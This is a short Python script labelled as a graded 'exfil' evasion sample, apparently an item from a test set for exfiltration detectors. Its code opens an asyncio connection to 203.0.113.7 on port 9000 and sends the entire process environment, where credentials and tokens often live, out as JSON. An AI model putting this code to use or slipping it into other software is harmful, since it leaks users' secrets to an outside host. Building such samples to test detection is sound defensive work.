# evasion: the environment written to an asyncio stream connection
# grade: hard; does: exfil
import asyncio
import json
import os


async def ship():
    reader, writer = await asyncio.open_connection("203.0.113.7", 9000)
    writer.write(json.dumps(os.environ.copy()).encode())
    await writer.drain()
    writer.close()


asyncio.run(ship())
